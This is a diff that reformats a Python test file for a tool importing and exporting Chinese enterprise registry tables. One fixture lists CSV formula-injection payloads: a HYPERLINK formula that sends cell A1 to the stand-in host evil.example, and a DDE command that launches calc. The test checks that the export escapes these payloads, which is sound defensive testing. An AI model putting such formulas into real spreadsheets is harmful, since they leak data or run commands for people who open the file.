@@ -32,24 +32,46 @@ def write_csv(path: Path, rows: list[list[object]], encoding: str = "utf-8-sig")
     return path
 
 
-HEADER = ["企业（单位）名称", "统一社会信用代码", "单位类型", "成立日期", "年度购买算力服务总额（元）",
-          "自主芯片算力标称值占比", "人工智能企业", "从业人数"]
+HEADER = [
+    "企业（单位）名称",
+    "统一社会信用代码",
+    "单位类型",
+    "成立日期",
+    "年度购买算力服务总额（元）",
+    "自主芯片算力标称值占比",
+    "人工智能企业",
+    "从业人数",
+]
 
 
 def test_cells_as_people_type_them_in_a_gbk_csv(tmp_path: Path) -> None:
-    path = write_csv(tmp_path / "park.csv", [
-        HEADER,
-        ["甲公司", f"  {make_uscc(1).lower()} ", "企业", "2019/6/18", "25万", "35%", "是", "12人"],
-        ["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000", "0.35", "√", "1,200"],
-        ["丙研究院", make_uscc(3), "科研院所", "20210315", "250000元", "40 %", "否", "3"],
-        ["丁中心", make_uscc(4), "事业单位", "2022.3.4", "1，000", "", "×", ""],
-    ], encoding="gbk")
+    path = write_csv(
+        tmp_path / "park.csv",
+        [
+            HEADER,
+            ["甲公司", f"  {make_uscc(1).lower()} ", "企业", "2019/6/18", "25万", "35%", "是", "12人"],
+            ["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000", "0.35", "√", "1,200"],
+            ["丙研究院", make_uscc(3), "科研院所", "20210315", "250000元", "40 %", "否", "3"],
+            ["丁中心", make_uscc(4), "事业单位", "2022.3.4", "1，000", "", "×", ""],
+        ],
+        encoding="gbk",
+    )
     profiles = read_table(path)
-    got = [(p.uscc, p.enterprise["org_type"], p.enterprise["established_on"].isoformat(),
-            p.facts["compute_purchase_amount"]) for p in profiles]
+    got = [
+        (
+            p.uscc,
+            p.enterprise["org_type"],
+            p.enterprise["established_on"].isoformat(),
+            p.facts["compute_purchase_amount"],
+        )
+        for p in profiles
+    ]
     assert [g[1:] for g in got] == [
-        ("enterprise", "2019-06-18", 250000), ("university", "2020-01-02", 250000),
-        ("research_institute", "2021-03-15", 250000), ("public_institution", "2022-03-04", 1000)]
+        ("enterprise", "2019-06-18", 250000),
+        ("university", "2020-01-02", 250000),
+        ("research_institute", "2021-03-15", 250000),
+        ("public_institution", "2022-03-04", 1000),
+    ]
     assert got[0][0] == make_uscc(1)
     assert profiles[0].to_dict()["facts"]["infra_domestic_chip_ratio"] == 0.35
     assert profiles[1].enterprise["employees"] == 1200 and profiles[3].enterprise["is_ai_enterprise"] is False
@@ -64,11 +86,16 @@ def test_excel_date_and_number_cells(tmp_path: Path) -> None:
     book.save(tmp_path / "park.xlsx")
     (profile,) = read_table(tmp_path / "park.xlsx")
     assert profile.to_dict()["enterprise"]["established_on"] == "2019-06-18"
-    assert profile.to_dict()["facts"] == {"compute_purchase_amount": 250000, "infra_domestic_chip_ratio": 0.35}
+    assert profile.to_dict()["facts"] == {
+        "compute_purchase_amount": 250000,
+        "infra_domestic_chip_ratio": 0.35,
+    }
 
 
 def test_every_bad_row_is_named_and_the_good_ones_are_kept_aside(tmp_path: Path) -> None:
-    rows = [HEADER] + [[f"企业{i}", make_uscc(i), "企业", "2020-01-01", "1000", "", "是", ""] for i in range(30)]
+    rows = [HEADER] + [
+        [f"企业{i}", make_uscc(i), "企业", "2020-01-01", "1000", "", "是", ""] for i in range(30)
+    ]
     rows[8][3] = "2020-02-30"
     rows[9][1] = make_uscc(3)  # the same code as row 5
     path = write_csv(tmp_path / "park.csv", rows)
@@ -87,7 +114,8 @@ def stored_with_everything(folder: Path, i: int) -> dict:
     doc = make_profile(i, engineers=5)
     doc["facts"].pop("compute_purchase_amount")
     doc["facts"]["compute_invoices"] = [
-        {"supplier": "福州算力中心", "invoice_no": f"0{k}", "date": "2025-10-01", "amount": 100000} for k in range(3)
+        {"supplier": "福州算力中心", "invoice_no": f"0{k}", "date": "2025-10-01", "amount": 100000}
+        for k in range(3)
     ]
     doc["enterprise"]["employees"] = 12
     with Store.open(folder) as store:
@@ -111,10 +139,20 @@ def test_reimporting_the_apps_own_table_with_replace_loses_nothing(tmp_path: Pat
 def test_a_table_updates_only_its_columns_and_says_what_changes(tmp_path: Path) -> None:
     data = tmp_path / "data"
     before = stored_with_everything(data, 1)
-    path = write_csv(tmp_path / "update.csv", [
-        ["企业（单位）名称", "统一社会信用代码", "从业人数", "成立日期", "年度购买算力服务总额（元）", "联系人"],
-        [before["enterprise"]["name"], make_uscc(1), "15", "", "30万", " 李四 "],
-    ])
+    path = write_csv(
+        tmp_path / "update.csv",
+        [
+            [
+                "企业（单位）名称",
+                "统一社会信用代码",
+                "从业人数",
+                "成立日期",
+                "年度购买算力服务总额（元）",
+                "联系人",
+            ],
+            [before["enterprise"]["name"], make_uscc(1), "15", "", "30万", " 李四 "],
+        ],
+    )
     with Store.open(data) as store:
         plan = plan_import(store, *read_incoming([path], no_passphrase))
         (entry,) = plan.entries
@@ -131,8 +169,13 @@ def test_a_table_updates_only_its_columns_and_says_what_changes(tmp_path: Path) 
 def test_a_count_that_disagrees_with_the_stored_list_is_a_bad_row(tmp_path: Path) -> None:
     data = tmp_path / "data"
     before = stored_with_everything(data, 1)
-    path = write_csv(tmp_path / "t.csv", [["企业（单位）名称", "统一社会信用代码", "列入核心工程师名册的人数"],
-                                           [before["enterprise"]["name"], make_uscc(1), "6"]])
+    path = write_csv(
+        tmp_path / "t.csv",
+        [
+            ["企业（单位）名称", "统一社会信用代码", "列入核心工程师名册的人数"],
+            [before["enterprise"]["name"], make_uscc(1), "6"],
+        ],
+    )
     with Store.open(data) as store:
         plan = plan_import(store, *read_incoming([path], no_passphrase))
         assert plan.entries == [] and "不一致" in plan.rejected[0].errors[0][1]
@@ -145,7 +188,10 @@ def test_a_count_that_disagrees_with_the_stored_list_is_a_bad_row(tmp_path: Path
 def test_a_plan_made_stale_by_another_writer_is_refused(tmp_path: Path) -> None:
     data = tmp_path / "data"
     stored_with_everything(data, 1)
-    path = write_csv(tmp_path / "t.csv", [["企业（单位）名称", "统一社会信用代码", "从业人数"], ["新名称", make_uscc(1), "20"]])
+    path = write_csv(
+        tmp_path / "t.csv",
+        [["企业（单位）名称", "统一社会信用代码", "从业人数"], ["新名称", make_uscc(1), "20"]],
+    )
     with Store.open(data) as store:
         plan = plan_import(store, *read_incoming([path], no_passphrase))
         doc = store.get_profile(make_uscc(1))
@@ -156,14 +202,22 @@ def test_a_plan_made_stale_by_another_writer_is_refused(tmp_path: Path) -> None:
         assert store.get_profile(make_uscc(1))["enterprise"]["employees"] == 99
 
 
-NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-         "'=已有引号", "'普通引号"]
+NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=已有引号",
+    "'普通引号",
+]
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
 def test_names_that_look_like_formulas_stay_text_and_come_back_exactly(tmp_path: Path, suffix: str) -> None:
-    docs = [{"enterprise": {"name": name, "uscc": make_uscc(i), "address": f"\t{name}地址\r\n二楼"}, "facts": {}}
-            for i, name in enumerate(NAMES)]
+    docs = [
+        {"enterprise": {"name": name, "uscc": make_uscc(i), "address": f"\t{name}地址\r\n二楼"}, "facts": {}}
+        for i, name in enumerate(NAMES)
+    ]
     docs.append({"enterprise": {"name": "\t=制表符开头", "uscc": make_uscc(40)}, "facts": {}})
     docs.append({"enterprise": {"name": "\r=回车开头", "uscc": make_uscc(41)}, "facts": {}})
     with Store.open(tmp_path / "a") as store:
@@ -172,11 +226,14 @@ def test_names_that_look_like_formulas_stay_text_and_come_back_exactly(tmp_path:
         stored = [store.get_profile(make_uscc(i)) for i in [*range(len(NAMES)), 40, 41]]
         out = tmp_path / f"park{suffix}"
         export_table(store, out)
-    assert [s["enterprise"]["name"] for s in stored[-2:]] == ["=制表符开头", "=回车开头"]  # trimmed at the door
+    assert [s["enterprise"]["name"] for s in stored[-2:]] == [
+        "=制表符开头",
+        "=回车开头",
+    ]  # trimmed at the door
     if suffix == ".csv":
         text = out.read_text(encoding="utf-8-sig")
         assert "\n=" not in text and ",=" not in text and "\n+" not in text and ",@" not in text
-        assert '"\'=HYPERLINK(' in text
+        assert "\"'=HYPERLINK(" in text
     else:
         from openpyxl import load_workbook
 
@@ -190,9 +247,13 @@ def test_names_that_look_like_formulas_stay_text_and_come_back_exactly(tmp_path:
 
 @pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1f"])
 def test_control_characters_are_refused_at_the_door_naming_the_field(tmp_path: Path, char: str) -> None:
-    path = write_csv(tmp_path / "t.csv", [["企业（单位）名称", "统一社会信用代码", "注册地址"],
-                                           ["好公司", make_uscc(1), f"鼓楼区{char}1号"]])
-    with pytest.raises(StoreError, match="「注册地址」：含不可见的控制字符" if char != "\x00" else "不是文本表格"):
+    path = write_csv(
+        tmp_path / "t.csv",
+        [["企业（单位）名称", "统一社会信用代码", "注册地址"], ["好公司", make_uscc(1), f"鼓楼区{char}1号"]],
+    )
+    with pytest.raises(
+        StoreError, match="「注册地址」：含不可见的控制字符" if char != "\x00" else "不是文本表格"
+    ):
         read_table(path)
     with Store.open(tmp_path / "data") as store:
         with pytest.raises(Exception, match="enterprise.name: 企业（单位）名称含不可见的控制字符"):
@@ -200,7 +261,9 @@ def test_control_characters_are_refused_at_the_door_naming_the_field(tmp_path: P
         assert store.count_enterprises() == 0
 
 
-def test_a_message_about_thirty_thousand_rows_stays_short_and_lists_them_all_in_a_file(tmp_path: Path) -> None:
+def test_a_message_about_thirty_thousand_rows_stays_short_and_lists_them_all_in_a_file(
+    tmp_path: Path,
+) -> None:
     rows = [["企业（单位）名称", "统一社会信用代码"]] + [[f"企业{i}", f"BAD{i}"] for i in range(30_000)]
     path = write_csv(tmp_path / "big.csv", rows)
     with pytest.raises(TableError) as caught:
@@ -213,8 +276,12 @@ def test_a_message_about_thirty_thousand_rows_stays_short_and_lists_them_all_in_
 
 
 def test_the_export_writes_chinese_org_types_and_every_cell_as_text(tmp_path: Path) -> None:
-    docs = [{"enterprise": {"name": "某大学", "uscc": make_uscc(1), "org_type": "university", "employees": 30},
-             "facts": {"infra_domestic_chip_ratio": 0.125, "compute_purchase_amount": "1234.56"}}]
+    docs = [
+        {
+            "enterprise": {"name": "某大学", "uscc": make_uscc(1), "org_type": "university", "employees": 30},
+            "facts": {"infra_domestic_chip_ratio": 0.125, "compute_purchase_amount": "1234.56"},
+        }
+    ]
     out = write_table(tmp_path / "t.csv", docs)
     rows = read_csv(out)
     assert rows[1] == ["某大学", make_uscc(1), "高校", "30", "1234.56", "12.5%"]
@@ -222,7 +289,9 @@ def test_the_export_writes_chinese_org_types_and_every_cell_as_text(tmp_path: Pa
 
 def test_the_real_command_skips_bad_rows_only_when_asked(tmp_path: Path) -> None:
     data = tmp_path / "data"
-    rows = [HEADER] + [[f"企业{i}", make_uscc(i), "企业", "2020/1/1", "1,000", "", "是", ""] for i in range(30)]
+    rows = [HEADER] + [
+        [f"企业{i}", make_uscc(i), "企业", "2020/1/1", "1,000", "", "是", ""] for i in range(30)
+    ]
     rows[7][4] = "很多"
     path = write_csv(tmp_path / "park.csv", rows, encoding="gbk")
     rejects = tmp_path / "rejects.csv"
@@ -244,9 +313,11 @@ def test_the_real_command_skips_bad_rows_only_when_asked(tmp_path: Path) -> None
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 def test_escaped_cells_saved_back_unquoted_are_not_taken_for_quotes(tmp_path: Path, delimiter: str) -> None:
     """A spreadsheet saves the apostrophe-escaped cells without quotes; the apostrophe is no quote mark."""
-    lines = [delimiter.join(["企业（单位）名称", "统一社会信用代码", "注册地址"]),
-             delimiter.join(["'@甲公司", make_uscc(1), "'=鼓楼区"]),
-             delimiter.join(["'+乙公司", make_uscc(2), "'-台江区"])]
+    lines = [
+        delimiter.join(["企业（单位）名称", "统一社会信用代码", "注册地址"]),
+        delimiter.join(["'@甲公司", make_uscc(1), "'=鼓楼区"]),
+        delimiter.join(["'+乙公司", make_uscc(2), "'-台江区"]),
+    ]
     path = tmp_path / "saved.csv"
     path.write_text("\n".join(lines) + "\n", encoding="gb18030")
     got = [(p.name, p.uscc, p.enterprise["address"]) for p in read_table(path)]
